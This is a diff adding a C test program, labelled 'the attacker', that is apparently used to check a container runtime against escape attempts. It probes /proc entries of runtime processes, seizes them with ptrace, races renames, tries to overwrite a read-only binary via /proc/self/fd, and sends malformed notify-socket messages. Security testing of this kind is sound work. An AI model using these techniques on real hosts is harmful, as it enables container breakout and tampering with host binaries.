@@ -1,0 +1,193 @@
+/* The attacker: a static program that is put into images, and run on the host where a second container that shares a
+ * directory would do the same. Prints what it has got hold of, a line each; nothing is good news. */
+#define _GNU_SOURCE
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <signal.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mman.h>
+#include <sys/ptrace.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/un.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+static int is_stub(int pid)
+{
+	char path[64], comm[32] = "";
+	snprintf(path, sizeof path, "/proc/%d/comm", pid);
+	int fd = open(path, O_RDONLY | O_CLOEXEC);
+	if (fd < 0)
+		return 0;
+	ssize_t n = read(fd, comm, sizeof comm - 1);
+	close(fd);
+	return n > 3 && (strncmp(comm, "rt:[", 4) == 0 || strncmp(comm, "runc:[", 6) == 0);
+}
+
+static void got(const char *what, int pid)
+{
+	printf("got %s of %d\n", what, pid);
+	fflush(stdout);
+}
+
+/* The marker is a path of the host that the container has not. */
+static void look(int pid, const char *marker)
+{
+	static const char *const ways[] = {"root", "cwd", NULL};
+	char path[512];
+	for (int i = 0; ways[i]; i++) {
+		snprintf(path, sizeof path, "/proc/%d/%s/%s%s", pid, ways[i], i ? "../../../../../../../.." : "", marker);
+		if (access(path, F_OK) == 0)
+			got(ways[i], pid);
+	}
+	for (int fd = 3; fd < 16; fd++) {
+		snprintf(path, sizeof path, "/proc/%d/fd/%d/../../../../../../../../..%s", pid, fd, marker);
+		if (access(path, F_OK) == 0)
+			got("a descriptor", pid);
+	}
+	snprintf(path, sizeof path, "/proc/%d/mem", pid);
+	int mem = open(path, O_RDWR | O_CLOEXEC);
+	if (mem >= 0 && is_stub(pid))
+		got("memory", pid);
+	if (mem >= 0)
+		close(mem);
+	snprintf(path, sizeof path, "/proc/%d/exe", pid);
+	char link[256];
+	ssize_t n = readlink(path, link, sizeof link - 1);
+	if (n > 0 && (link[n] = 0, strstr(link, "memfd") || strstr(link, "runc")) && is_stub(pid))
+		got("the executable", pid);
+}
+
+static void seize(int pid)
+{
+	int status;
+	if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
+		return;
+	if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0 && waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status) && is_stub(pid))
+		got("control", pid);
+	ptrace(PTRACE_DETACH, pid, 0, 0);
+}
+
+/* snoop MARKER: look into every process that comes, as soon as it comes, until /stop is there. */
+static int snoop(const char *marker)
+{
+	int self = getpid(), next = self + 1, stubs = 0;
+	for (unsigned turn = 0; access("/stop", F_OK) != 0; turn++)
+		for (int pid = next; pid < next + 3; pid++) {
+			char path[64];
+			snprintf(path, sizeof path, "/proc/%d", pid);
+			if (access(path, F_OK) != 0)
+				continue;
+			for (int i = 0; i < 40 && access(path, F_OK) == 0; i++) {
+				stubs += is_stub(pid);
+				look(pid, marker);
+				seize(pid);
+			}
+			next = pid + 1;
+		}
+	printf("met %d\n", stubs);
+	return 0;
+}
+
+/* strike SIGNAL N: send a signal to the next process that comes while it is the runtime's, N times; until /stop. */
+static int strike(int sig, int times)
+{
+	int next = getpid() + 1;
+	while (times > 0 && access("/stop", F_OK) != 0)
+		for (int pid = next; pid < next + 3; pid++) {
+			if (is_stub(pid) && kill(pid, sig) == 0) {
+				printf("struck %d\n", pid), fflush(stdout);
+				times--;
+				next = pid + 1;
+			}
+		}
+	return 0;
+}
+
+/* exchange A B: swap two names, again and again, until killed. */
+static int exchange(const char *a, const char *b)
+{
+	for (;;)
+		if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) < 0 && errno != ENOENT)
+			return perror("renameat2"), 1;
+}
+
+/* ruin PATH: every way to change a file that one can only read. */
+static int ruin(const char *path)
+{
+	char again[64];
+	static const int flags[] = {O_WRONLY, O_RDWR, O_WRONLY | O_TRUNC};
+	int fd = open(path, O_RDONLY | O_CLOEXEC);
+	if (fd < 0)
+		return 0;
+	snprintf(again, sizeof again, "/proc/self/fd/%d", fd);
+	for (int i = 0; i < 3; i++) {
+		int out = open(again, flags[i] | O_CLOEXEC);
+		if (out < 0)
+			continue;
+		if (write(out, "#!/bin/false\n", 13) == 13)
+			printf("got to write\n");
+		char *map = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, out, 0);
+		if (map != MAP_FAILED)
+			printf("got to map\n");
+		if (ftruncate(out, 0) == 0)
+			printf("got to truncate\n");
+		close(out);
+	}
+	if (fchmod(fd, 0777) < 0)
+		errno = 0;
+	close(fd);
+	return 0;
+}
+
+/* datagrams SOCKET: what a service must not say to the manager on the other side, and what nobody should. */
+static int datagrams(const char *path)
+{
+	static char big[200000];
+	struct sockaddr_un to = {.sun_family = AF_UNIX};
+	int null = open("/dev/null", O_RDWR), fd = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
+	if (!path || fd < 0)
+		return printf("no socket\n"), 1;
+	snprintf(to.sun_path, sizeof to.sun_path, "%s", path);
+	memset(big, 'x', sizeof big);
+	const char *texts[] = {"MAINPID=1\n", "FDSTORE=1\nFDNAME=x\n", "STOPPING=1\n", "", "READY=0\n", "X=READY=1", big, "RELOADING=1\nMAINPID=1\nREADY=1\n"};
+	for (unsigned i = 0; i < sizeof texts / sizeof *texts; i++) {
+		struct iovec iov = {(char *)texts[i], texts[i] == big ? sizeof big - 1 : strlen(texts[i])};
+		char space[CMSG_SPACE(sizeof(int) * 100)] = "";
+		struct msghdr m = {.msg_name = &to, .msg_namelen = sizeof to, .msg_iov = &iov, .msg_iovlen = 1, .msg_control = space,
+			.msg_controllen = sizeof space};
+		struct cmsghdr *c = CMSG_FIRSTHDR(&m);
+		c->cmsg_level = SOL_SOCKET, c->cmsg_type = SCM_RIGHTS, c->cmsg_len = CMSG_LEN(sizeof(int) * 100);
+		for (int k = 0; k < 100; k++)
+			memcpy(CMSG_DATA(c) + sizeof(int) * (size_t)k, &null, sizeof null);
+		sendmsg(fd, &m, 0);
+	}
+	printf("sent\n");
+	return 0;
+}
+
+int main(int argc, char **argv)
+{
+	const char *verb = argc > 1 ? argv[1] : "";
+	if (strcmp(verb, "snoop") == 0 && argc == 3)
+		return snoop(argv[2]);
+	if (strcmp(verb, "strike") == 0 && argc == 4)
+		return strike(atoi(argv[2]), atoi(argv[3]));
+	if (strcmp(verb, "exchange") == 0 && argc == 4)
+		return exchange(argv[2], argv[3]);
+	if (strcmp(verb, "ruin") == 0 && argc == 3)
+		return ruin(argv[2]);
+	if (strcmp(verb, "datagrams") == 0)
+		return datagrams(getenv("NOTIFY_SOCKET"));
+	if (access("/rt-marker", F_OK) == 0 || strcmp(verb, "where") == 0) {
+		char here[4096] = "";
+		printf("at %s\n", getcwd(here, sizeof here) ? here : "nowhere");
+	}
+	printf("attack: no verb %s\n", verb);
+	return 2;
+}
